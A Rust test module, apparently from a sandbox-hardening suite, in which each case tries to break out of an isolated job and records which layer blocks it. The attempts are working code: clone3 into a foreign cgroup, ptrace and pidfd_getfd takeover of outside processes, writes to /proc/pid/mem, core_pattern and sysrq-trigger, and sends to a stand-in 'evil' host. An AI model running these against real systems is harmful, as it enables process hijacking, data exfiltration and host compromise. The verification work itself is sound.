//! What stands behind enforcement: the cgroup a process is in, processes outside, the kernel's own
//! settings.

use std::fs;
use std::net::SocketAddr;
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::path::Path;

use nix::errno::Errno;
use nix::sys::signal::{Signal, kill};
use nix::unistd::{Pid, getuid};

use crate::escape::accomplice::victim;
use crate::escape::case::{Case, Refused, Targets, Unrecorded, at as failed, by, io_at};
use crate::escape::sys;
use crate::harness::network::EVIL_V4;

type Result = std::result::Result<(), Refused>;

/// Processes outside are not there.
const NO_PROCESS: &[Unrecorded] = &[
    by("pid namespace", "kill", Errno::ESRCH),
    by("pid namespace", "ptrace", Errno::ESRCH),
    by("pid namespace", "pidfd_open", Errno::ESRCH),
    by("pid namespace", "process_vm_readv", Errno::ESRCH),
    by("pid namespace", "open", Errno::ENOENT),
];

/// Settings of the host cannot be written.
const SEALED: &[Unrecorded] = &[
    by("mount namespace", "open", Errno::EROFS),
    by("mount namespace", "open", Errno::ENOENT),
];

/// `CLONE_INTO_CGROUP`
const INTO_CGROUP: u64 = 0x2_0000_0000;

pub(super) const CASES: &[Case] = &[
    Case::new(
        "clone-into-cgroup",
        &["G16"],
        "`clone3` with CLONE_INTO_CGROUP: a child is born in another cgroup; nothing is written.",
        |targets| {
            let group = fs::read_to_string(targets.directory.join("other-cgroup"))
                .map_err(io_at("read"))?;
            let group = fs::File::open(group).map_err(io_at("open"))?;
            let child = born_in(&group.into(), || {
                // What became of it shows on the wire.
                let _sent = datagram(targets.at(EVIL_V4), targets);
            })?;
            sys::wait(child)
        },
    ),
    Case::new(
        "udp-threads",
        &["G15"],
        "One UDP socket, two threads: one sends to the allowed host while the other connects elsewhere.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            let good = sys::address(super::good_v4());
            let evil = sys::address(targets.at(EVIL_V4));
            let tag = targets.tag();
            let tried = std::thread::scope(|scope| {
                scope.spawn(|| {
                    for _ in 0..2000 {
                        // Allowed or not: what leaves is counted on the wire.
                        let _sent = sys::sendto(&socket, b"hello", libc::MSG_DONTWAIT, &good);
                    }
                });
                let mut last = Ok(());
                for _ in 0..2000 {
                    last = sys::connect(&socket, &evil).and_then(|()| {
                        sys::send(&socket, tag.as_bytes(), libc::MSG_DONTWAIT).map(drop)
                    });
                }
                last
            });
            // The host's kernel tells the allowed host of answers that find nobody.
            std::thread::sleep(std::time::Duration::from_millis(300));
            tried
        },
    ),
    Case::new(
        "kill-outside",
        &["G33"],
        "Ends a process of the same user outside the job.",
        |targets| {
            let (process, _) = victim(&targets.directory, getuid())?;
            kill(process, Signal::SIGKILL).map_err(failed("kill"))
        },
    )
    .done()
    .stopped_by(NO_PROCESS),
    Case::new(
        "ptrace-outside",
        &["G15"],
        "Traces a process of the same user outside the job: from there on it does what the job wants.",
        |targets| {
            let (process, _) = victim(&targets.directory, getuid())?;
            let process = process.as_raw().unsigned_abs() as usize;
            // PTRACE_SEIZE. Ending lets go of it.
            number("ptrace", libc::SYS_ptrace, [0x4206, process, 0, 0]).map(drop)
        },
    )
    .done()
    .stopped_by(NO_PROCESS),
    Case::new(
        "pidfd-getfd",
        &["G15"],
        "Takes a connected socket out of a process of the same user outside the job.",
        |targets| {
            let (process, number) = victim(&targets.directory, getuid())?;
            let socket = taken(process, number)?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(NO_PROCESS),
    Case::new(
        "proc-fd-outside",
        &["G15"],
        "The memory of a process of the same user outside the job, by /proc.",
        |targets| {
            let (process, _) = victim(&targets.directory, getuid())?;
            fs::File::options()
                .write(true)
                .open(format!("/proc/{process}/mem"))
                .map(drop)
                .map_err(io_at("open"))
        },
    )
    .done()
    .stopped_by(NO_PROCESS),
    Case::new(
        "core-pattern",
        &["G14"],
        "/proc/sys/kernel/core_pattern: a program that the kernel runs, outside every job, at a crash.",
        |_targets| writable(Path::new("/proc/sys/kernel/core_pattern")),
    )
    .done()
    .stopped_by(SEALED),
    Case::new(
        "sysrq",
        &["G33"],
        "/proc/sysrq-trigger: ends processes, or the machine.",
        |_targets| writable(Path::new("/proc/sysrq-trigger")),
    )
    .done()
    .stopped_by(SEALED),
    Case::new(
        "module-parameter",
        &["G14"],
        "/sys: parameters of modules and devices of the host.",
        |_targets| writable(Path::new("/sys/module/kernel/parameters/panic")),
    )
    .done()
    .stopped_by(SEALED),
    Case::new(
        "bpf-call",
        &["G33"],
        "`bpf`: finds programs and maps by their numbers, as only root can.",
        |_targets| {
            // BPF_PROG_GET_NEXT_ID from 0.
            let mut attributes = [0_u32; 4];
            let start = attributes.as_mut_ptr() as usize;
            number("bpf", libc::SYS_bpf, [11, start, 16, 0]).map(drop)
        },
    )
    .done()
    .stopped_by(&[
        by("seccomp", "bpf", Errno::EPERM),
        by("capabilities", "bpf", Errno::EPERM),
    ]),
];

fn datagram(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &sys::address(to)).map(drop)
}

/// Opened and left as it is.
fn writable(path: &Path) -> Result {
    let file = fs::File::options().write(true).open(path);
    file.map(drop).map_err(io_at("open"))
}

/// A descriptor of another process.
fn taken(process: Pid, descriptor: i32) -> std::result::Result<OwnedFd, Refused> {
    let process = usize::try_from(process.as_raw())
        .map_err(|_negative| failed("pidfd_open")(Errno::ESRCH))?;
    let own = |number: i64| -> std::result::Result<OwnedFd, Refused> {
        let number = i32::try_from(number).map_err(|_large| failed("pidfd_open")(Errno::EBADF))?;
        #[expect(unsafe_code, reason = "takes a descriptor the kernel just made")]
        // SAFETY: nothing else owns it.
        Ok(unsafe { OwnedFd::from_raw_fd(number) })
    };
    let process = own(number(
        "pidfd_open",
        libc::SYS_pidfd_open,
        [process, 0, 0, 0],
    )?)?;
    let arguments = [
        process.as_raw_fd().unsigned_abs() as usize,
        descriptor.unsigned_abs() as usize,
        0,
        0,
    ];
    own(number("pidfd_getfd", libc::SYS_pidfd_getfd, arguments)?)
}

/// Forks into a cgroup; the child does this and ends.
#[expect(clippy::exit, reason = "a child must not go on as its parent")]
fn born_in(group: &OwnedFd, act: impl FnOnce()) -> std::result::Result<Pid, Refused> {
    // struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls,
    // set_tid, set_tid_size, cgroup.
    let mut arguments = [0_u64; 11];
    arguments[0] = INTO_CGROUP;
    arguments[4] = u64::from(Signal::SIGCHLD as u32);
    arguments[10] = u64::from(group.as_raw_fd().unsigned_abs());
    let start = arguments.as_mut_ptr() as usize;
    let child = number("clone3", libc::SYS_clone3, [start, 88, 0, 0])?;
    if child == 0 {
        act();
        std::process::exit(0);
    }
    i32::try_from(child)
        .map(Pid::from_raw)
        .map_err(|_large| failed("clone3")(Errno::EINVAL))
}

fn number(
    call: &'static str,
    number: i64,
    arguments: [usize; 4],
) -> std::result::Result<i64, Refused> {
    #[expect(unsafe_code, reason = "system calls without a wrapper")]
    // SAFETY: the arguments are numbers, or point at live memory of the size that is passed with
    // them; the one call that forks does so in a program without other threads.
    unsafe {
        sys::numbered(call, number, arguments)
    }
}
